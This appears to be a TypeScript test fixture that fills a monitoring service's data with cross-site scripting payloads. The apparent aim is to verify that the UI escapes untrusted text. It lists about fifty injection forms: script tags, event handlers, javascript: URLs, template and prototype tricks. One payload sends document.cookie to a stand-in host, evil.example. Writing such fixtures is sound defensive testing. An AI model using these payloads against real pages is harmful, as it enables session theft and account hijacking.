// A service whose every text field is an attack on the page that shows it.
import { aWorld, type World } from './a-world.ts';

const MARKS = ['window.hits=(window.hits||0)+1', 'fetch("http://evil.example/"+document.cookie)', 'alert(1)', 'document.title="taken"'];
const FORMS: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `</title></svg></textarea><script>${script}</script>`,
  (script) => `<img src=x onerror='${script}'>`,
  (script) => `'"><img src=x onerror='${script}'>`,
  (script) => `<svg onload='${script}'>`,
  (script) => `<svg><animate onbegin='${script}' attributeName=x dur=1s>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<a href="javascript:${script}" autofocus>n2</a>`,
  (script) => `javascript:${script}`,
  (script) => ` javascript:${script}//`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `<body onload='${script}'>`,
  (script) => `<input autofocus onfocus='${script}'>`,
  (script) => `<details open ontoggle='${script}'>`,
  (script) => `<video><source onerror='${script}'></video>`,
  (script) => `<style>@import "http://evil.example/x.css";*{background:url(javascript:${script})}</style>`,
  (script) => `<link rel=stylesheet href="http://evil.example/x.css"><script>${script}</script>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<base href="http://evil.example/"><script>${script}</script>`,
  (script) => `<form action="http://evil.example/"><button autofocus onfocus='${script}'>ok</button></form>`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<embed src="javascript:${script}">`,
  (script) => `<math><mtext><table><mglyph><style><img src=x onerror='${script}'></style></mglyph></table></mtext></math>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror='${script}'>">`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => '${' + script + '}',
  (script) => `\`;${script};\``,
  (script) => `';${script};//`,
  (script) => `";${script};//`,
  (script) => `]]><script>${script}</script>`,
  (script) => `<!--><script>${script}</script>-->`,
  (script) => `<ScRiPt/x>${script}</sCrIpT >`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  (script) => `http://evil.example/<script>${script}</script>`,
  (script) => `//evil.example/${script}`,
  (script) => `../../../api/v1/runs/cancel?${script}#/${script}`,
  (script) => `url(http://evil.example/${script})`,
  (script) => `x;background:url(http://evil.example/${script})`,
  (script) => `n2\u202E<script>${script}</script>`,
  (script) => `n2\n\r\t\u0000<script>${script}</script>`,
  (script) => `__proto__<script>${script}</script>`,
  (script) => `${'W'.repeat(300)}<script>${script}</script>`,
  (script) => `constructor" onmouseover='${script}'`,
  (script) => `p0 harm" style="position:fixed" onclick='${script}'`,
  (script) => `<custom-element is=x onpointerenter='${script}'>`,
  (script) => `<select><option onfocus='${script}' autofocus>1`,
];
export const PAYLOADS: readonly string[] = FORMS.flatMap((form) => MARKS.map(form));

/** Their values are words of ours, which the service checks before it stores them. */
const WORDS: ReadonlySet<string> = new Set([
  'state',
  'kind',
  'severity',
  'verdict',
  'origin',
  'phase',
  'eventCause',
  'from',
  'spec',
  'file',
]);

/** @returns the world, and how many of the payloads stand in it */
export function aHostileWorld(): { world: World; used: () => number } {
  const world = aWorld('broken');
  const used = new Set<string>();
  let next = 0;
  const payload = (text: string): string => {
    const chosen = PAYLOADS[next++ % PAYLOADS.length] ?? text;
    used.add(chosen);
    return chosen;
  };
  const poison = <Value>(value: Value, field = ''): Value => {
    if (WORDS.has(field)) return value;
    // One text is replaced by one payload wherever it stands within an answer's part: names must still fit each other.
    if (typeof value === 'string') return payload(value) as Value;
    if (Array.isArray(value)) return value.map((each: unknown) => poison(each, field)) as Value;
    if (typeof value !== 'object' || value === null) return value;
    const isOpen = field === 'byPath' || field === 'brokenByCause';
    return Object.fromEntries(
      Object.entries(value).map(([key, each]: [string, unknown]) => [isOpen ? payload(key) : key, key === 'id' ? each : poison(each, key)]),
    ) as Value;
  };
  const overview = world.overview;
  const monitors = overview(Date.now()).monitors.map((monitor) => ({
    ...poison({ ...monitor, recent: [] }),
    recent: poison(monitor.recent.slice(-20)),
  }));
  Object.assign(world, {
    caller: payload('ops'),
    planText: poison(world.planText),
    findings: world.findings.map((finding, index) => ({
      ...poison(finding),
      id: index === 0 ? `f-"><img src=x onerror=alert(1)>` : finding.id,
    })),
    runs: world.runs.map((run) => poison(run)),
    schedules: world.schedules.map((schedule) => poison(schedule)),
    periods: world.periods.map((period) => ({ ...period, spec: { ...period.spec, note: payload('') } })),
    deliveries: world.deliveries.map((delivery) => poison(delivery)),
    destinations: world.destinations.map((destination) => ({ ...poison(destination), kind: payload('') })),
    keepers: world.keepers.map((keeper) => poison(keeper)),
    environments: world.environments.map((environment) => poison(environment)),
    scenarios: world.scenarios.map((scenario) => poison(scenario)),
    overview: (nowMs: number) => {
      const told = overview(nowMs);
      return {
        ...told,
        title: payload(''),
        sentence: payload(''),
        version: payload(''),
        monitors,
        health: { ...told.health, problems: [payload(''), payload('')] },
      };
    },
  } satisfies Partial<World>);
  return { world, used: () => used.size };
}
